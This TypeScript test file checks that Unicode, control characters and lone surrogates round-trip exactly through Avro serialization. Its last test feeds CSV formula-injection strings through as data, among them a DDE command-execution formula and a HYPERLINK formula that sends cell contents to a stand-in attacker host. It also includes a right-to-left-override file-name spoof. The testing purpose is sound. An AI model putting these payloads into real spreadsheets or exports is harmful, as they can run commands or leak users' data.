import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startTestStack, messagesFor, readBlob, type TestStack } from '../support/stack';
import { decodeWithPython } from '../support/pythonAvro';
import { goodEvent, quarantineLines, writtenRecords, assertWrittenIds, run } from './corpus';

/**
 * Strings round-trip exactly through Avro — checked with avsc and with Apache Avro (Python): emoji
 * (astral, ZWJ sequences, flags, skin tones), right-to-left text and bidi controls, combining marks
 * (NFC and NFD kept apart, never normalized), NUL and other control characters, noncharacters.
 * CSV formula-injection strings are data here: written verbatim (formula guards belong to CSV exports).
 */
let stack: TestStack;
before(async () => {
  stack = await startTestStack();
});
after(async () => {
  await stack.close();
});

const SAMPLES: Record<string, string> = {
  emoji: '😀',
  zwjFamily: '👩‍👩‍👧‍👦',
  flag: '🇺🇦🏳️‍🌈',
  skinTone: '👍🏽',
  hebrew: 'שלום עולם',
  arabic: 'مرحبا بالعالم',
  rtlOverride: '\u202Egnp.exe\u202C',
  bidiIsolates: '\u2066abc\u2069\u2067אבג\u2069',
  nfc: 'é',
  nfd: 'e\u0301',
  zalgo: 'Z̴̡̪͓̈́a̵̛̬l̸͙̈g̷̯̈́o̶͉͝',
  cjk: '漢字かなカナ한국어',
  nul: 'a\u0000b',
  onlyNul: '\u0000',
  controls: '\u0001\u0007\u001b[31m\u001f\u007f\u0080\u009f',
  separators: 'line\u2028para\u2029end',
  bomInside: 'x\ufeffy',
  nonCharacters: '\ufffe\uffff\u{1fffe}\u{10ffff}',
  replacementChar: '\ufffd',
  mixed: 'Ünïcödé ✓ ∑ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🧪\u0000\u200b\u200d',
  long: '🙂'.repeat(10_000),
};

test('Unicode and NUL bytes in string fields round-trip exactly (avsc and Apache Avro agree with the input)', async () => {
  const integration = await stack.addIntegration();
  const neighbours = [goodEvent(), goodEvent()];
  const events = Object.entries(SAMPLES).map(([k, v]) =>
    goodEvent(undefined, { id: `${k}:${v.slice(0, 50)}`, user_id: v, external_user_id: v, campaign_name: v, email_address: v, message_extras: JSON.stringify({ v }) }),
  );
  const messages = messagesFor(integration.id, [[neighbours[0], ...events, neighbours[1]]]);
  const report = await run(stack, messages);
  assert.equal(report.quarantined.events, 0);
  const written = await writtenRecords(stack, integration.container); // asserts Python's records deep-equal avsc's
  assertWrittenIds(written, [...neighbours, ...events].map((e) => e.id));
  for (const e of events) {
    const r = written.byId.get(e.id as string);
    assert.ok(r, `missing ${JSON.stringify(e.id)}`);
    for (const f of ['user_id', 'external_user_id', 'campaign_name', 'email_address', 'message_extras']) {
      assert.ok(r[f] === e[f], `${f} of ${JSON.stringify(e.id)} changed: ${JSON.stringify(r[f])} vs ${JSON.stringify(e[f])}`);
    }
  }
  assert.notEqual(written.byId.get(`nfc:${SAMPLES.nfc}`)!.user_id, written.byId.get(`nfd:${SAMPLES.nfd}`)!.user_id, 'no normalization');
  assert.equal((written.byId.get(`nfd:${SAMPLES.nfd}`)!.user_id as string).length, 2);
});

test('Unicode in raw (string and Buffer) bodies decodes from UTF-8 and round-trips', async () => {
  const integration = await stack.addIntegration();
  const a = goodEvent(undefined, { campaign_name: SAMPLES.zwjFamily + SAMPLES.nul + SAMPLES.arabic });
  const b = goodEvent(undefined, { campaign_name: SAMPLES.zalgo + SAMPLES.nonCharacters });
  const messages = messagesFor(integration.id, [[], []]);
  messages[0].body = JSON.stringify({ integrationId: integration.id, events: [a] });
  messages[1].body = Buffer.from(JSON.stringify({ integrationId: integration.id, events: [b] }), 'utf8');
  await run(stack, messages);
  const written = await writtenRecords(stack, integration.container);
  assert.equal(written.byId.get(a.id as string)?.campaign_name, a.campaign_name);
  assert.equal(written.byId.get(b.id as string)?.campaign_name, b.campaign_name);
});

// "\ud800" is valid JSON but not Unicode: Avro strings are UTF-8, which cannot hold a lone surrogate.
// avsc encodes it as invalid UTF-8 (ED A0 80): avsc reads back U+FFFD, Apache Avro (Python) cannot read
// the file at all. Such a value must be quarantined with its field, and the file must stay valid.
test('lone UTF-16 surrogates (valid JSON escapes, not Unicode) are quarantined naming the field; the neighbours\' file stays valid UTF-8 Avro', async () => {
  const integration = await stack.addIntegration();
  const good = [goodEvent(), goodEvent()];
  const high = goodEvent();
  const low = goodEvent();
  // Build the raw JSON text by hand so the escapes are exactly what a producer would send.
  const text = `{"integrationId":"${integration.id}","events":[${JSON.stringify(good[0])},${JSON.stringify(high).replace(/"campaign_name":"[^"]*"/, '"campaign_name":"abc\\ud800def"')},${JSON.stringify(low).replace(/"external_user_id":"[^"]*"/, '"external_user_id":"\\udc00"')},${JSON.stringify(good[1])}]}`;
  const messages = messagesFor(integration.id, [[]]);
  messages[0].body = text;
  await run(stack, messages);
  const written = await writtenRecords(stack, integration.container, { python: false });
  for (const e of good) assert.ok(written.byId.has(e.id as string), 'neighbours written');
  // avsc writes a lone surrogate as the 3 bytes ED A0 80 — not UTF-8 — so strict readers cannot read
  // the file at all, neighbours included.
  const files = await Promise.all(written.names.map((n) => readBlob(stack.service, integration.container, n)));
  assert.doesNotThrow(() => decodeWithPython(files), 'the file (with the good neighbours in it) must stay readable by Apache Avro');
  const changed = [high, low].filter((e) => written.byId.has(e.id as string));
  assert.deepEqual(
    changed.map((e) => ({ id: e.id, campaign_name: written.byId.get(e.id as string)!.campaign_name, external_user_id: written.byId.get(e.id as string)!.external_user_id })),
    [],
    'events with lone surrogates were written with the value replaced',
  );
  const lines = await quarantineLines(stack, messages);
  for (const [index, field] of [[1, 'campaign_name'], [2, 'external_user_id']] as const) {
    const line = lines.find((l) => l.eventIndex === index);
    assert.equal(line?.field, field);
    assert.match(String(line?.reason), /surrogate|not valid Unicode|UTF-8/i);
  }
});

test('CSV formula-injection strings are written verbatim into Avro (formula guards belong to CSV exports only)', async () => {
  const integration = await stack.addIntegration();
  const formulas = [
    "=cmd|' /C calc'!A0",
    '+1',
    '-1',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '\t=1+1',
    '\r=1+1',
    '=1+1\n',
    "'=quoted",
    '＝1+1', // fullwidth equals
  ];
  const events = formulas.map((f, i) => goodEvent(undefined, { id: `formula-${i}`, campaign_name: f, external_user_id: f, email_address: f }));
  const neighbour = goodEvent();
  await run(stack, messagesFor(integration.id, [[...events, neighbour]]));
  const written = await writtenRecords(stack, integration.container);
  assertWrittenIds(written, [...events, neighbour].map((e) => e.id));
  events.forEach((e, i) => {
    const r = written.byId.get(e.id as string)!;
    assert.equal(r.campaign_name, formulas[i]);
    assert.equal(r.external_user_id, formulas[i]);
    assert.equal(r.email_address, formulas[i]);
  });
});
